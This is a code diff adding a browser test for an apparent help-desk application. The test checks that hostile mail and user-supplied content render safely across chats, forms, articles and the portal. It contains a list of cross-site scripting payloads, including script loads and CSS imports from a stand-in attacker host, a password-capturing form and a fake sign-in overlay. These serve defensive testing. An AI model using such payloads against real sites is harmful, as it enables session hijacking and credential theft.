@@ -3,14 +3,19 @@ import type { AddressInfo } from 'node:net'
 import { createTransport } from 'nodemailer'
 import type { Browser } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { shopPage } from '../../scripts/hostile/house.ts'
+import { asPayloads } from '../../scripts/hostile/payloads.ts'
+import { tryPayloads } from '../../scripts/hostile/trying.ts'
+import { openSink, type Sink } from '../mail/sink.ts'
 import { editor, mailFrame, missingBrowser, openBrowser, openScreen, row, type Screen } from './browser.ts'
 import { type Heed, hire, openInbox, startHeed } from './heed.ts'
 
 const missing = missingBrowser()
 const attack = 'window.hacked = top.hacked = parent.hacked = true'
 
-describe.skipIf(missing !== null)('a hostile mail', () => {
+describe.skipIf(missing !== null)('what is hostile', () => {
   let heed: Heed
+  let sink: Sink
   let browser: Browser
   let ines: Screen
   let elsewhere: Server
@@ -19,11 +24,13 @@ describe.skipIf(missing !== null)('a hostile mail', () => {
   beforeAll(async () => {
     visits = []
     elsewhere = createServer((request, response) => {
+      if (request.url === '/shop') return response.setHeader('content-type', 'text/html').end(shopPage(heed.url))
       if (request.url !== '/favicon.ico') visits.push(request)
       response.setHeader('content-type', 'text/html').end('<title>Elsewhere</title>')
     })
     await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
-    heed = await startHeed()
+    sink = await openSink()
+    heed = await startHeed({ HEED_SMTP_URL: sink.url, HEED_TRUST_PROXY: '1' })
     await openInbox(heed, 'support@heed.test')
     browser = await openBrowser()
     ines = await openScreen(browser, heed, { who: await hire(heed, 'Ines') })
@@ -31,6 +38,7 @@ describe.skipIf(missing !== null)('a hostile mail', () => {
   afterAll(async () => {
     await browser?.close()
     await heed?.close()
+    await sink?.close()
     elsewhere.close()
   })
 
@@ -46,7 +54,7 @@ describe.skipIf(missing !== null)('a hostile mail', () => {
     <form action="${outside()}/form"><input name="password" autofocus><button>Sign in</button></form>
     <p><a href="${outside()}/landing">Our offer</a></p></body></html>`
 
-  test('runs nothing, fetches nothing by itself, and its links open apart', async () => {
+  test('in a mail runs nothing, fetches nothing by itself, and its links open apart', async () => {
     const { page, requests } = ines
     const mailer = createTransport({ host: '127.0.0.1', port: heed.smtpPort, ignoreTLS: true })
     const from = { name: 'Eve <b>Evil</b>', address: 'eve@customers.test' }
@@ -98,10 +106,35 @@ describe.skipIf(missing !== null)('a hostile mail', () => {
     await editor(page).getByText('Dear team').waitFor()
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
     await page.getByRole('button', { name: 'Send and wait' }).click()
-    await page.getByText('Waiting to leave').first().waitFor()
+    await mailFrame(page, 'Ines').getByText('Dear team').waitFor()
     await page.reload()
     await mailFrame(page, 'Ines').getByText('Dear team').waitFor()
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
     expect(visits).toHaveLength(1)
   })
+
+  test('does nothing by chat, form, article, portal or file name, wherever it shows', async () => {
+    const words = [
+      `<img src=x onerror="${attack}">`,
+      `"><svg/onload=${attack}>`,
+      `'-alert(1)-'`,
+      `<script src="http://elsewhere.evil.test/a.js"></script>`,
+      `</title></textarea></style><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+      `<style>@import url(http://elsewhere.evil.test/a.css); body { display: none }</style>`,
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+      `[press](javascript:alert(1)) ![see](http://elsewhere.evil.test/a.png)`,
+      `<div style="position:fixed;inset:0;z-index:99;background:url(http://elsewhere.evil.test/b.png)">Sign in again</div>`,
+      `<form action="http://elsewhere.evil.test/take"><input name=password autofocus onfocus=alert(1)></form>`,
+      `javascript:alert(1)//`,
+      `{{ 'site' | append: '<script>alert(1)</script>' }}<plaintext>`,
+    ]
+    const places = ['desk: conversation of a chat', 'widget: an earlier chat', 'desk: conversation of a form']
+    places.push('form: what is wrong with it', 'help centre: an article', 'portal: a conversation', 'desk: a customer')
+    const ground = { url: heed.url, admin: heed.admin, sink, shop: outside(), shopPath: '/shop' }
+    const only = { ways: ['contacts', 'chats', 'forms', 'articles', 'portal'], places, pages: 3 }
+    const { faults, seen } = await tryPayloads(browser, ground, asPayloads(words), { most: 1, only })
+    expect(faults).toEqual([])
+    expect([...seen.keys()].sort()).toEqual([...places].sort())
+    for (const [place, ways] of seen) expect(ways.size, place).toBeGreaterThan(0)
+  }, 240_000)
 })
